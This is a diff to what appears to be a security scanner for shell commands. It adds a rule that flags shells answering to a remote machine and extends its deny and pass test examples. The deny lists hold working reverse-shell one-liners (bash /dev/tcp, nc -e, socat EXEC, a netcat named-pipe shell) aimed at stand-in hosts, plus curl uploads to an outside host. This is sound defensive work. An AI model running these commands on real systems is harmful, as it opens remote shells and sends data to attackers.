@@ -92,6 +92,17 @@ def _reverse_shell(subject: Subject) -> Iterator[Hit]:
                 "this hands a shell to another machine",
                 "leave it out; nothing in a project needs it",
             )
+    far = {command.id for command, fact in subject.contacts() if not near(fact)}
+    for flow in subject.facts.flows:
+        # a shell that takes commands from somewhere, and answers to another machine
+        source = subject.facts.command(flow.from_command) if flow.to_command in far else None
+        if source is not None and source.program in _SHELLS and Operation.RUN_INPUT in source.operations:
+            yield Hit(
+                source.id,
+                source.program,
+                "the answers of this shell go to another machine",
+                "leave it out; nothing in a project needs it",
+            )
 
 
 def _socket(target: str) -> str:
@@ -154,8 +165,9 @@ RULES: Final = (
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "nc -e /bin/sh evil.example 4444",
             "socat TCP:evil.example:1 EXEC:/bin/sh",
+            "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
         ),
-        passes=("nc -z localhost 80", "bash -c 'echo hi'"),
+        passes=("nc -z localhost 80", "bash -c 'echo hi'", "nc -l -p 8080 -c 'echo hi'"),
     ),
     Rule(
         "egress.metadata-endpoint",
@@ -185,8 +197,16 @@ RULES: Final = (
         Group.UPLOAD_UNKNOWN,
         Severity.MEDIUM,
         _upload_unknown,
-        denies=("curl -T a.bin https://x.example/u", "curl -d @a.json https://x.example"),
-        passes=("curl https://x.example", "curl -d @a.json http://localhost:8080"),
+        denies=(
+            "curl -T a.bin https://x.example/u",
+            "curl -d @a.json https://x.example",
+            'curl -d "$BODY" https://x.example',
+        ),
+        passes=(
+            "curl https://x.example",
+            "curl -d @a.json http://localhost:8080",
+            "curl -d a=1 https://x.example",
+        ),
     ),
     Rule(
         "package.install",
